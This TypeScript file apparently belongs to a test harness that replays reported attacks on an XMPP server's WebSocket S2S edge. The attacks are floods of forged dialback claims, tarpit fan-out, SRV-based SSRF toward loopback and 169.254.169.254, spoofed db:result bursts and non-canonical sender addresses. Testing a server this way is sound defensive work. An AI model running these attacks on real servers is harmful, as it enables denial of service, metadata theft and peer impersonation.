// Attacks on dialback and routing (issue 10 items 3, 4, 7, 8 and 11), all over WebSocket S2S
// (XEP-0468) straight to the edge, as anyone on the internet can.

import { ATTACK_MAX_MS, dialbackAnswers, pool, randomKey, sleep, Tally, type Attack, type Running } from "./attack.js";
import { dialWs, FEATURES, NS_DB, streamError, verifiedStream, wsOpen, type RawConn } from "./raw.js";
import { ATTACKER_IP, EDGE_DOMAIN, HARNESS_SECRET, PEER_DOMAIN, PUBLIC_TARPIT, type HostileStack } from "./stack.js";

const dbResult = (from: string, key: string) => `<db:result xmlns:db='${NS_DB}' from='${from}' to='${EDGE_DOMAIN}'>${key}</db:result>`;

/** A WebSocket stream from the attacker's address, opened as `from`, features received. */
async function openAs(stack: HostileStack, from: string): Promise<RawConn | undefined> {
  try {
    const c = await dialWs(stack.wsUrl, ATTACKER_IP);
    c.write(wsOpen(from, EDGE_DOMAIN));
    if (await c.waitFor(FEATURES, 10_000)) return c;
    c.destroy();
  } catch {
    /* counted by the caller as not opened */
  }
  return undefined;
}

// ---- 3. 300 streams each claiming the victim peer.test, asking for bidi, with a forged key.

export const bidiClaims: Attack = {
  n: 3,
  name: "300 unverified bidi streams claiming peer.test",
  // Measured once all 300 are set up (the defect is what they cost while held, not their setup).
  readyMaxMs: 90_000,
  async start(stack: HostileStack): Promise<Running> {
    const conns = new Set<RawConn>();
    const answers = new Tally();
    let failed = 0;
    let stopped = false;
    const ready = pool(Array.from({ length: 300 }, (_, i) => i), 25, async () => {
      if (stopped) return;
      const c = await openAs(stack, PEER_DOMAIN);
      if (!c) return void failed++;
      conns.add(c);
      c.write(`<bidi xmlns='urn:xmpp:bidi'/>`);
      c.write(dbResult(PEER_DOMAIN, randomKey()));
      await c.waitFor(/<(?:db:)?result\b[^>]*\btype=/, 15_000);
      answers.add(dialbackAnswers(c.text)[0] ?? (c.closed ? `closed:${streamError(c.text) ?? "-"}` : "no answer"));
    });
    const stopAt = setTimeout(() => (stopped = true), ATTACK_MAX_MS);
    return {
      ready,
      held: () => [...conns].filter((c) => !c.closed).length,
      async stop() {
        clearTimeout(stopAt);
        stopped = true;
        await ready;
        const open = [...conns].filter((c) => !c.closed).length;
        for (const c of conns) c.destroy();
        return `answers ${answers}; ${failed} not opened; still open at the end ${open}/${conns.size}`;
      },
    };
  },
};

const PENDING = Number(process.env.HOSTILE_PENDING ?? 1000);

// ---- 4. Two streams, each with 1,000 pending db:result for distinct *.evil.test, whose SRV records
// point to a tarpit on a public address (it accepts and never speaks).

export const pendingFanOut: Attack = {
  n: 4,
  name: "2 x 1,000 pending db:result for distinct *.evil.test",
  async start(stack: HostileStack): Promise<Running> {
    const rule = (name: string) => (/^_xmpp-server\._tcp\.p\d+-\d+\.evil\.test$/.test(name) ? [`0 0 5269 ${PUBLIC_TARPIT}.`] : undefined);
    stack.doh.rules.push(rule);
    const dohBefore = stack.doh.queries;
    const conns: RawConn[] = [];
    const ready = (async () => {
      // Both streams open first: once the claims flow, an unfixed edge may not open another.
      for (let s = 0; s < 2; s++) {
        const c = await openAs(stack, "evil.test");
        if (c) conns.push(c);
      }
      for (const [s, c] of conns.entries()) for (let i = 0; i < PENDING; i++) c.write(dbResult(`p${s}-${i}.evil.test`, randomKey()));
      await sleep(5000);
    })();
    const stopAt = setTimeout(() => void run.stop(), ATTACK_MAX_MS);
    let done: Promise<string> | undefined;
    const run: Running = {
      ready,
      held: () => conns.filter((c) => !c.closed).length,
      stop() {
        return (done ??= (async () => {
          clearTimeout(stopAt);
          await ready;
          const answers = new Tally();
          for (const c of conns) for (const a of dialbackAnswers(c.text)) answers.add(a);
          const closed = conns.filter((c) => c.closed).map((c) => streamError(c.text) ?? "no stream error");
          for (const c of conns) c.destroy();
          stack.sinks.tarpit.drop();
          stack.doh.rules.splice(stack.doh.rules.indexOf(rule), 1);
          return `${conns.length} streams; answers within the attack: ${answers}; closed by the edge: ${closed.join(",") || "none"}; DoH queries ${stack.doh.queries - dohBefore}`;
        })());
      },
    };
    return run;
  },
};

// ---- 7. SRV records pointing at loopback, the metadata address, ::1 and a name for localhost;
// triggered by API stanzas to those domains and by db:result claims from them.

const SSRF: [string, string][] = [
  ["ssrf-lo.evil.test", "0 0 9996 127.0.0.1."],
  ["ssrf-meta.evil.test", "0 0 80 169.254.169.254."],
  ["ssrf-meta-s2s.evil.test", "0 0 5269 169.254.169.254."],
  ["ssrf-v6.evil.test", "0 0 9996 ::1."],
  ["ssrf-name.evil.test", "0 0 9996 localhost."],
];

export const ssrf: Attack = {
  n: 7,
  name: "SRV -> 127.0.0.1 / 169.254.169.254 / ::1 / localhost",
  async start(stack: HostileStack): Promise<Running> {
    const table = new Map(SSRF.map(([d, data]) => [`_xmpp-server._tcp.${d}`, [data]]));
    const rule = (name: string) => table.get(name);
    stack.doh.rules.push(rule);
    const hookBefore = stack.hook.bodies.length;
    const apiStatus = new Tally();
    let conn: RawConn | undefined;
    const ready = (async () => {
      for (const [d] of SSRF) {
        const res = await stack.api("/api/v1/stanzas", {
          method: "POST", body: `<message from='bot@${EDGE_DOMAIN}' to='u@${d}' id='ssrf-${d}' type='chat'><body>x</body></message>`,
        }).catch(() => undefined);
        apiStatus.add(String(res?.status ?? "failed"));
        await res?.arrayBuffer();
      }
      conn = await openAs(stack, "evil.test");
      for (const [d] of SSRF) conn?.write(dbResult(d, randomKey()));
      await sleep(6000);
    })();
    return {
      ready,
      held: () => (conn && !conn.closed ? 1 : 0),
      async stop() {
        await ready;
        const bounces = new Tally();
        for (const b of stack.hook.bodies.slice(hookBefore)) {
          if (!/ssrf-/.test(b)) continue;
          bounces.add(/<([a-z-]+)[^>]*xmlns=['"]urn:ietf:params:xml:ns:xmpp-stanzas['"]/.exec(b)?.[1] ?? "delivered?");
        }
        const answers = new Tally();
        for (const a of dialbackAnswers(conn?.text ?? "")) answers.add(a);
        conn?.destroy();
        stack.doh.rules.splice(stack.doh.rules.indexOf(rule), 1);
        const s = stack.sinks;
        const sinks = [s.loopback, s.metadata, s.metadataS2s, s.loopback6].filter((x) => x !== undefined);
        const reached = sinks.map((x) => `${x.label} ${x.accepted} (header sent on ${x.spoken})`).join(", ");
        for (const x of sinks) x.drop();
        return `API ${apiStatus}; bounces ${bounces}; db:result answers ${answers}; sinks reached (cumulative): ${reached}`;
      },
    };
  },
};

// ---- 8. 614 spoofed db:result for the victim peer.test on one stream, one after the other.

export const spoofedResults: Attack = {
  n: 8,
  name: "614 spoofed db:result for peer.test on one stream",
  async start(stack: HostileStack): Promise<Running> {
    const verifyBefore = stack.harness.peer.stats.verifyRequests;
    let conn: RawConn | undefined;
    let sent = 0;
    const deadline = Date.now() + 15_000;
    // Paced as in the report (614 in 15 s), without waiting for the answers.
    const loop = (async () => {
      conn = await openAs(stack, "spoof.evil.test");
      const t0 = Date.now();
      while (conn && !conn.closed && sent < 614 && Date.now() < deadline + 10_000) {
        conn.write(dbResult(PEER_DOMAIN, randomKey()));
        sent++;
        const due = t0 + (sent * 15_000) / 614;
        if (due > Date.now()) await sleep(due - Date.now());
      }
      // The last answers.
      for (let i = 0; i < 20 && conn && !conn.closed && dialbackAnswers(conn.text).length < sent; i++) await sleep(250);
    })();
    return {
      ready: sleep(5000),
      held: () => (conn && !conn.closed ? 1 : 0),
      async stop() {
        // Runs to its end (614 sent or the stream closed), bounded by `deadline`.
        await loop;
        const answers = new Tally();
        for (const a of dialbackAnswers(conn?.text ?? "")) answers.add(a);
        const closed = conn?.closed ? `closed by the edge after ${sent} sent, with ${streamError(conn.text) ?? "no stream error"}` : `still open after ${sent}`;
        conn?.destroy();
        return `${closed}; answers ${answers}; db:verify reflected to peer.test ${stack.harness.peer.stats.verifyRequests - verifyBefore}`;
      },
    };
  },
};

// ---- 11. Non-canonical from addresses on a stream verified for peer.test (RFC 7622 §3.2).

const NON_CANONICAL = ["a@peer%2etest", "a@peer\u3002test", "a@PEER.TEST.", "a@peer.test"];

export const nonCanonicalFrom: Attack = {
  n: 11,
  name: "non-canonical from (a@peer%2etest, a@peer\u3002test, a@PEER.TEST.)",
  async start(stack: HostileStack): Promise<Running> {
    const outcomes: string[] = [];
    let conn: RawConn | undefined;
    const loop = (async () => {
      for (const [k, from] of NON_CANONICAL.entries()) {
        try {
          conn = await verifiedStream(await dialWs(stack.wsUrl, ATTACKER_IP), PEER_DOMAIN, EDGE_DOMAIN, HARNESS_SECRET);
        } catch (e) {
          outcomes.push(`${from}: stream not verified`);
          continue;
        }
        const id = `nc${k}-${Date.now().toString(36)}`;
        conn.write(`<message xmlns='jabber:server' from='${from}' to='app@${EDGE_DOMAIN}' id='${id}' type='chat'><body>x</body></message>`);
        let outcome = "";
        for (let i = 0; i < 30 && !outcome; i++) {
          const hooked = stack.hook.bodies.find((b) => b.includes(id));
          if (hooked) outcome = `delivered from='${/\bfrom=['"]([^'"]*)['"]/.exec(hooked)?.[1]}'`;
          else if (conn.closed) outcome = `stream closed: ${streamError(conn.text) ?? "no stream error"}`;
          else if (new RegExp(`<message\\b(?=[^>]*\\bid=['"]${id}['"])(?=[^>]*\\btype=['"]error['"])`).test(conn.text)) {
            outcome = `bounced: ${/<([a-z-]+)[^>]*xmlns=['"]urn:ietf:params:xml:ns:xmpp-stanzas['"]/.exec(conn.text)?.[1] ?? "?"}`;
          } else await sleep(100);
        }
        outcomes.push(`${from}: ${outcome || "nothing in 3 s"}`);
        conn.destroy();
      }
    })();
    return {
      ready: sleep(500),
      held: () => (conn && !conn.closed ? 1 : 0),
      async stop() {
        await loop;
        return outcomes.join("; ");
      },
    };
  },
};
